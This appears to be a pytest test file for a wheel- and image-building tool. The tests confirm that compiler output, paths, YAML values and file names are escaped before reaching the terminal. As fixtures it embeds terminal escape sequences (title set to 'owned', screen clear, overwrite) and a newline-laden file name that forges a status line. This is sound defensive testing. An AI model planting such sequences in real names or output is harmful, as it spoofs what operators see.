    code, out, err = _build(monkeypatch, capsys, "--wheels", place, "--only", tiny_matrix.entries[0].id, "--dry-run")
    assert code == 0, err
    assert raw_controls(out + err) == [], repr(out)
    assert "w\\x1b]0;owned\\x07\\x1b[2J\\r/" + FITS in out and "(made around it: no compile)" in out


def test_build_prints_engine_output_and_names_escaped(tiny_matrix, tmp_path: Path, monkeypatch, capsys) -> None:
    """The whole of ``build``'s printing, the live line of the compile included: an engine line
    and a wheel path with escapes reach the terminal escaped, and the entry's log as they came."""
    from fakes import FakeEngine, accept_every_wheel

    accept_every_wheel(monkeypatch)
    place = tmp_path / "w\x1b[2J"
    place.mkdir()
    _wheel(place / FITS, _elf_header())  # a wheel pip would read: --wheels opens it first
    engine = FakeEngine()
    hostile = "nvcc: \x1b[31mred\x1b[0m \x1b]0;title\x07 \rover\x08written \x9b2J"

    class Saying(fakes.FakeBuilder):
        def build(self, request, **kwargs):
            kwargs["on_line"](hostile)  # a line of the compile's own output: the live line
            return super().build(request, **kwargs)

    fakes.use_engine(monkeypatch, engine, Saying)
    entry = tiny_matrix.entries[0].id
    code, out, err = fa_images(capsys, "build", "--gpus", "none", "--wheels", place, "--only", entry)
    assert code == 0, err
    assert raw_controls(out + err) == [], repr(err)
    assert "nvcc: \\x1b[31mred\\x1b[0m \\x1b]0;title\\x07 \\rover\\x08written \\x9b2J" in err
    assert hostile in (tmp_path / "logs" / f"{entry}.log").read_bytes().decode()


def test_the_live_line_and_the_steps_are_escaped_on_a_terminal() -> None:
    """On a terminal the console writes its own codes (the live line's rewrite, the marks'
    colours); everything it is given is escaped."""
    from fa_images.run.logger import Console

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    out = Terminal()
    console = Console(out)
    console.progress("compiling \x1b[2J\rx.cu", key=(1,))
    with console.step("check \x1b]0;t\x07") as info:
        info["note"] = "wheel \x1b[2J.whl"
    console.line("error: \x1b[2J\nsecond line")
    own = out.getvalue().replace("\r\x1b[K", "").replace("\x1b[32m", "").replace("\x1b[0m", "")
    assert raw_controls(own) == [], repr(own)
    assert "compiling \\x1b[2J\\rx.cu" in own and "check \\x1b]0;t\\x07" in own and "wheel \\x1b[2J.whl" in own
    assert "error: \\x1b[2J\nsecond line\n" in own


@pytest.mark.parametrize(
    "text",
    [
        'image: "reg.local/fa\\e[2J"\n',
        'image: reg.local/fa\nbases: {devel: "nvidia/cuda:12.8\\a"}\n',
        'image: reg.local/fa\nbuild: {network: "host\\r"}\n',
    ],
    ids=["image", "bases.devel", "build.network"],
)
def test_a_matrix_value_with_control_characters_is_one_escaped_error(tmp_path: Path, capsys, text: str) -> None:
    text += f"entries: [{ENTRY}]\n"
    path = tmp_path / "matrix.yaml"
    path.write_text(text)
    for command in (["plan"], ["build", "--dry-run"]):
        code, out, err = fa_images(capsys, *command, "--matrix", path)
        assert_clear_error(code, err, 2)
        assert raw_controls(out + err) == [], (command, repr(err))


def test_render_names_a_stray_dockerfile_escaped(tmp_path: Path, capsys) -> None:
    """Files found in --out are named by whoever put them there: not even a newline prints raw."""
    path = matrix_file(tmp_path, f"image: reg.local/fa\nentries: [{ENTRY}]\n")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "x\x1b[2J\r.Dockerfile").write_text("FROM scratch\n")
    fake = "out: 1 Dockerfile up to date"
    (tmp_path / "out" / f"y\n{fake}\n.Dockerfile").write_text("FROM scratch\n")
    for check in ([], ["--check"]):
        code, out, err = fa_images(capsys, "render", "--matrix", path, "--out", tmp_path / "out", *check)
        assert code == (1 if check else 0), err
        assert raw_controls(out + err) == [] and "x\\x1b[2J\\r.Dockerfile" in out, repr(out)
        assert fake not in (out + err).splitlines() and f"y\\n{fake}\\n.Dockerfile" in out, repr(out)


def test_a_path_given_on_the_command_line_is_printed_escaped(tmp_path: Path, capsys) -> None:
    """The user's own flags are text from outside too: `wrote PATH` cannot drive the terminal."""
    out = tmp_path / "m\x1b]0;owned\x07\x1b[2J\r.yaml"
    code, stdout, err = fa_images(capsys, "init", "--target", "aws", "--out", out)
    assert code == 0, err
    assert out.is_file()
    assert raw_controls(stdout + err) == [], repr(stdout)
    assert "m\\x1b]0;owned\\x07\\x1b[2J\\r.yaml" in stdout


def test_prepare_only_with_a_compiler_cache_needs_a_work_dir_of_its_own(tmp_path: Path, capsys) -> None:
    """Its work dir would be kept under the one fixed name every cached build uses, and stop the next."""
    code, _out, err = fa_images(
        capsys,
        "wheel",
        "--prepare-only",
        "--flash-attn",
        "2.8.3",
        "--out",
        tmp_path / "out",
        "--compiler-cache",
        tmp_path / "cache",
    )
    assert_clear_error(code, err, 2, "--prepare-only keeps its work dir")
    assert "--work-dir" in err
    assert not (tmp_path / "cache").exists()
